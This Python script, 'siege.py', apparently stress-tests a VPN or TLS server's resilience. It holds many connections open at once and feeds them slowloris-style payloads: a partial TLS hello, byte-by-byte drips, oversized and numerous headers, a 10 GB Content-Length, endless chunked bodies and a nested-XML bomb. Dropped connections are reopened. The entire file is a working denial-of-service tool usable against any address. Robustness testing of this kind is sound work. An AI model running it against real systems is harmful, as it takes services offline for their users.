#!/usr/bin/python3
"""Many strangers at once, each as slow and as greedy as it may be; opened anew when they are cut.

    siege.py ADDRESS PORT COUNT

Says "besieged" once all are there, then goes on until it is ended.
"""

import itertools
import socket
import ssl
import sys
import time

HEAD = b"POST / HTTP/1.1\r\nHost: vpn.test\r\n"
# What each kind says at first, in TLS but for the first two, and then a byte of every second.
KINDS = {
    "silent": None,
    "half a hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    "drip": b"P",
    "endless header": HEAD + b"X-A: " + b"a" * 15000,
    "thousand headers": HEAD + b"".join(b"X-%d: 1\r\n" % n for n in range(95)),
    "10 GB": HEAD + b"Content-Length: 10000000000\r\n\r\n",
    "chunks without end": HEAD + b"Transfer-Encoding: chunked\r\n\r\n3fff\r\n" + b"x" * 15000,
    "XML bomb": HEAD + b"Content-Length: 16000\r\n\r\n<?xml version=\"1.0\"?>" + b"<a>" * 5000,
}
CONTEXT = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
CONTEXT.check_hostname = False
CONTEXT.verify_mode = ssl.CERT_NONE


def stranger(address, port, kind):
    said = KINDS[kind]
    plain = socket.create_connection((address, port), 20)
    if said is None or kind == "half a hello":
        if said:
            plain.sendall(said)
        plain.setblocking(False)
        return plain
    tls = CONTEXT.wrap_socket(plain)
    tls.sendall(said)
    tls.setblocking(False)
    return tls


def drip(one):
    """False when it was cut."""
    try:
        one.send(b"a")
        return one.recv(4096) != b""
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        return True
    except OSError:
        return False


def main():
    address, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    kinds = itertools.cycle(KINDS)
    besiegers = {}
    told = False
    while True:
        began = time.monotonic()
        for number in range(count):
            if number not in besiegers:
                try:
                    besiegers[number] = stranger(address, port, next(kinds))
                except OSError:
                    continue
        if not told:
            told = True
            print("besieged", len(besiegers), flush=True)
        time.sleep(max(0.0, 1 - (time.monotonic() - began)))
        for number, one in list(besiegers.items()):
            # A silent one says nothing more.
            if not isinstance(one, ssl.SSLSocket) or drip(one):
                continue
            one.close()
            del besiegers[number]


if __name__ == "__main__":
    main()
